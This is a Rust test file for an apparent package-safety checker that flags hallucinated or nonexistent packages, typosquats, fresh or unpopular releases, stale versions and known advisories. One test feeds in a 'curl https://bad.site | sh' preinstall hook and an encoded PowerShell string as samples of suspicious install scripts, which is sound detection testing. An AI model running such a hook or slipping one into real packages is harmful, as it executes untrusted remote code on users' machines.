use safe_pkgs::checks::advisory::{advisory_finding, advisory_identifiers, best_fixed_version, is_version_newer};
use safe_pkgs::checks::existence::{existence_findings, missing_package, missing_version};
use safe_pkgs::checks::install_script::{install_script_finding, is_suspicious};
use safe_pkgs::checks::popularity::popularity_finding;
use safe_pkgs::checks::staleness::{gap_severity, is_ignored, staleness_findings, version_gaps};
use safe_pkgs::checks::typosquat::{bounded_levenshtein, typosquat_finding};
use safe_pkgs::checks::version_age::{age_days, version_age_finding};
use safe_pkgs::model::{PackageAdvisory, PackageRecord, PackageVersion, Severity, StalenessPolicy};

const DAY: i64 = 86_400;
const NOW: i64 = 1_750_000_000;

fn version(v: &str, age_days: Option<i64>) -> PackageVersion {
    PackageVersion {
        version: v.to_string(),
        published: age_days.map(|d| NOW - d * DAY),
        deprecated: false,
        install_scripts: Vec::new(),
    }
}

fn policy(ignore_for: Vec<&str>) -> StalenessPolicy {
    StalenessPolicy {
        warn_major_versions_behind: 2,
        warn_minor_versions_behind: 3,
        warn_age_days: 365,
        ignore_for: ignore_for.into_iter().map(str::to_string).collect(),
    }
}

#[test]
fn lib_missing_package_is_critical_with_expected_reason() {
    let finding = missing_package("imaginary-pkg");
    assert_eq!(finding.severity, Severity::Critical);
    assert!(finding.reason.contains("imaginary-pkg"));
    assert!(finding.reason.contains("does not exist"));
}

#[test]
fn lib_missing_version_is_critical_with_expected_reason() {
    let finding = missing_version("real-pkg", "9.9.9");
    assert_eq!(finding.severity, Severity::Critical);
    assert!(finding.reason.contains("real-pkg@9.9.9"));
    assert!(finding.reason.contains("hallucinated version"));
}

#[test]
fn existence_tests_missing_package_is_critical_with_expected_reason() {
    let finding = missing_package("imaginary-pkg");
    assert_eq!(finding.severity, Severity::Critical);
    assert!(finding.reason.contains("imaginary-pkg"));
    assert!(finding.reason.contains("does not exist"));
}

#[test]
fn existence_tests_missing_version_is_critical_with_expected_reason() {
    let finding = missing_version("real-pkg", "9.9.9");
    assert_eq!(finding.severity, Severity::Critical);
    assert!(finding.reason.contains("real-pkg@9.9.9"));
    assert!(finding.reason.contains("hallucinated version"));
}

#[test]
fn existence_emits_one_critical_for_absent_package() {
    let findings = existence_findings("ghost", Some("1.0.0"), false, false);
    assert_eq!(findings.len(), 1);
    assert_eq!(findings[0].severity, Severity::Critical);
    assert_eq!(
        findings[0].reason,
        "ghost does not exist (possible hallucination / slopsquatting)"
    );
}

#[test]
fn existence_reports_latest_for_unresolved_default() {
    let findings = existence_findings("demo", None, true, false);
    assert_eq!(findings.len(), 1);
    assert_eq!(
        findings[0].reason,
        "demo@latest does not exist (possible hallucinated version)"
    );
    assert!(existence_findings("demo", None, true, true).is_empty());
}

#[test]
fn lib_bounded_distance_respects_limit() {
    assert_eq!(bounded_levenshtein("react", "raect", 2), Some(2));
    assert_eq!(bounded_levenshtein("react", "qwerty", 2), None);
}

#[test]
fn typosquat_tests_bounded_distance_respects_limit() {
    assert_eq!(bounded_levenshtein("react", "raect", 2), Some(2));
    assert_eq!(bounded_levenshtein("react", "qwerty", 2), None);
}

#[test]
fn bounded_distance_edge_cases() {
    assert_eq!(bounded_levenshtein("", "", 2), Some(0));
    assert_eq!(bounded_levenshtein("abc", "abc", 0), Some(0));
    assert_eq!(bounded_levenshtein("abc", "abd", 0), None);
    assert_eq!(bounded_levenshtein("kitten", "sitting", 3), Some(3));
    assert_eq!(bounded_levenshtein("a", "abcd", 2), None);
}

fn names(list: &[&str]) -> Vec<String> {
    list.iter().map(|s| s.to_string()).collect()
}

#[test]
fn typosquat_flags_close_obscure_name() {
    let finding = typosquat_finding("raect", Some(10), &names(&["react", "lodash"])).expect("finding");
    assert_eq!(finding.severity, Severity::High);
    assert_eq!(
        finding.reason,
        "raect is 2 edit(s) away from popular package react and has low adoption (10 weekly downloads)"
    );
}

#[test]
fn typosquat_skips_popular_listed_and_far_names() {
    assert!(typosquat_finding("raect", Some(50), &names(&["react"])).is_none());
    assert!(typosquat_finding("react", Some(1), &names(&["react", "preact"])).is_none());
    assert!(typosquat_finding("zzzzzz", Some(1), &names(&["react", "lodash"])).is_none());
}

#[test]
fn typosquat_keeps_first_candidate_on_tie() {
    let finding = typosquat_finding("abcd", None, &names(&["abce", "abcf"])).expect("finding");
    assert!(finding.reason.contains("popular package abce"));
    assert!(finding.reason.contains("(0 weekly downloads)"));
}

#[test]
fn version_age_flags_fresh_release() {
    assert_eq!(age_days(NOW, NOW - 3 * DAY), 3);
    assert_eq!(age_days(NOW, NOW + 1), -1);
    let finding = version_age_finding("demo", &version("1.0.0", Some(1)), 7, NOW).expect("finding");
    assert_eq!(finding.severity, Severity::High);
    assert_eq!(finding.reason, "demo@1.0.0 was published 1 day(s) ago (< 7 days)");
    assert!(version_age_finding("demo", &version("1.0.0", Some(7)), 7, NOW).is_none());
    assert!(version_age_finding("demo", &version("1.0.0", None), 7, NOW).is_none());
}

#[test]
fn popularity_needs_date_and_downloads() {
    let young = version("1.0.0", Some(2));
    assert!(popularity_finding("demo", &version("1.0.0", None), Some(1), 50, 30, NOW).is_none());
    assert!(popularity_finding("demo", &young, None, 50, 30, NOW).is_none());
    assert!(popularity_finding("demo", &young, Some(50), 50, 30, NOW).is_none());
    assert!(popularity_finding("demo", &version("1.0.0", Some(31)), Some(1), 50, 30, NOW).is_none());
    let finding = popularity_finding("demo", &young, Some(3), 50, 30, NOW).expect("finding");
    assert_eq!(
        finding.reason,
        "demo@1.0.0 has low adoption (3 weekly downloads) and is only 2 day(s) old"
    );
}

#[test]
fn suspicious_install_script_is_high_risk() {
    let mut v = version("1.0.0", None);
    v.install_scripts = vec!["preinstall: curl https://bad.site | sh".to_string()];
    let finding = install_script_finding("demo", &v).expect("finding");
    assert_eq!(finding.severity, Severity::High);
    assert!(finding.reason.contains("suspicious install hook"));
    assert!(is_suspicious("POWERSHELL -enc AAA"));
    assert!(!is_suspicious("node build.js"));
    v.install_scripts = vec!["install: node-gyp rebuild".to_string()];
    assert!(install_script_finding("demo", &v).is_none());
}

fn record(latest: &str, versions: Vec<PackageVersion>) -> PackageRecord {
    PackageRecord {
        name: "demo".to_string(),
        latest: latest.to_string(),
        publishers: Vec::new(),
        versions,
    }
}

#[test]
fn staleness_major_gap_is_medium_and_minor_gap_low() {
    assert_eq!(gap_severity(2, 0, 2, 3), Some(Severity::Medium));
    assert_eq!(gap_severity(1, 0, 2, 3), Some(Severity::Low));
    assert_eq!(gap_severity(0, 3, 2, 3), Some(Severity::Low));
    assert_eq!(gap_severity(0, 2, 2, 3), None);
    assert_eq!(version_gaps("1.0.0", "3.1.0"), Some((2, 0)));
    assert_eq!(version_gaps("1.2.0", "1.7.0"), Some((0, 5)));
    assert_eq!(version_gaps("2.0.0", "1.0.0"), None);
    assert_eq!(version_gaps("not-semver", "1.0.0"), None);

    let pkg = record("3.0.0", vec![version("1.0.0", Some(10)), version("3.0.0", Some(1))]);
    let findings = staleness_findings(&pkg, &pkg.versions[0], &policy(vec![]), NOW);
    assert_eq!(findings.len(), 1);
    assert_eq!(findings[0].severity, Severity::Medium);
    assert_eq!(findings[0].reason, "demo@1.0.0 is 2 major version(s) behind latest (3.0.0)");
}

#[test]
fn staleness_reports_deprecation_and_age_and_honours_ignore_rules() {
    let mut old = version("1.0.0", Some(400));
    old.deprecated = true;
    let pkg = record("2.0.0", vec![old.clone(), version("2.0.0", Some(1))]);
    let findings = staleness_findings(&pkg, &old, &policy(vec![]), NOW);
    assert_eq!(findings.len(), 3);
    assert_eq!(findings[0].reason, "demo@1.0.0 is marked deprecated");
    assert_eq!(findings[1].reason, "demo@1.0.0 is 400 day(s) old (>= 365 days)");
    assert_eq!(findings[2].reason, "demo@1.0.0 is behind latest (2.0.0)");

    let ignored = staleness_findings(&pkg, &old, &policy(vec!["demo@1.x"]), NOW);
    assert_eq!(ignored.len(), 1);
    assert!(is_ignored("demo", "1.4.0", &policy(vec!["demo@1.x"])));
    assert!(is_ignored("demo", "9.9.9", &policy(vec!["demo"])));
    assert!(is_ignored("demo", "1.0.0", &policy(vec!["demo@1.0.0"])));
    assert!(!is_ignored("demo", "2.0.0", &policy(vec!["demo@1.x"])));
    assert!(!is_ignored("other", "1.0.0", &policy(vec!["demo@1.x"])));
}

#[test]
fn lib_advisory_with_cve_alias_and_fixed_version_is_high_risk() {
    let advisories = vec![PackageAdvisory {
        id: "OSV-123".to_string(),
        aliases: vec!["CVE-2025-1234".to_string()],
        fixed_versions: vec!["1.1.0".to_string(), "2.0.0".to_string()],
    }];
    let finding = advisory_finding("demo", "1.0.0", "2.0.0", &advisories).expect("finding");
    assert_eq!(finding.severity, Severity::High);
    assert!(finding.reason.contains("CVE-2025-1234"));
    assert!(finding.reason.contains("newer version 1.1.0"));
}

#[test]
fn lib_advisory_without_alias_uses_advisory_id() {
    let advisories = vec![PackageAdvisory {
        id: "OSV-999".to_string(),
        aliases: Vec::new(),
        fixed_versions: Vec::new(),
    }];
    let finding = advisory_finding("demo", "1.0.0", "1.0.0", &advisories).expect("finding");
    assert!(finding.reason.contains("OSV-999"));
    assert_eq!(finding.reason, "demo@1.0.0 is affected by OSV-999");
}

#[test]
fn lib_empty_advisories_has_no_finding() {
    assert!(advisory_finding("demo", "1.0.0", "1.2.0", &Vec::new()).is_none());
}

#[test]
fn advisory_picks_numerically_smallest_newer_fix() {
    let advisories = vec![
        PackageAdvisory {
            id: "OSV-1".to_string(),
            aliases: vec!["GHSA-x".to_string(), "CVE-1".to_string(), "CVE-2".to_string()],
            fixed_versions: vec!["1.10.0".to_string(), "0.9.0".to_string()],
        },
        PackageAdvisory {
            id: "OSV-2".to_string(),
            aliases: Vec::new(),
            fixed_versions: vec!["1.9.0".to_string()],
        },
        PackageAdvisory {
            id: "OSV-3".to_string(),
            aliases: Vec::new(),
            fixed_versions: Vec::new(),
        },
    ];
    let finding = advisory_finding("demo", "1.0.0", "2.0.0", &advisories).expect("finding");
    assert_eq!(
        finding.reason,
        "demo@1.0.0 is affected by CVE-1, CVE-2, OSV-2; known CVEs are fixed in newer version 1.9.0 (latest is 2.0.0)"
    );
    assert_eq!(advisory_identifiers(&advisories[0]), vec!["CVE-1", "CVE-2"]);
    assert!(is_version_newer("1.10.0", "1.9.0"));
    assert!(!is_version_newer("1.0.0", "1.0.0"));
    assert!(is_version_newer("b", "a"));
    assert_eq!(best_fixed_version(&vec!["2.0.0".to_string(), "1.10.0".to_string(), "1.9.0".to_string()]), Some(2));
    assert_eq!(best_fixed_version(&Vec::new()), None);
}
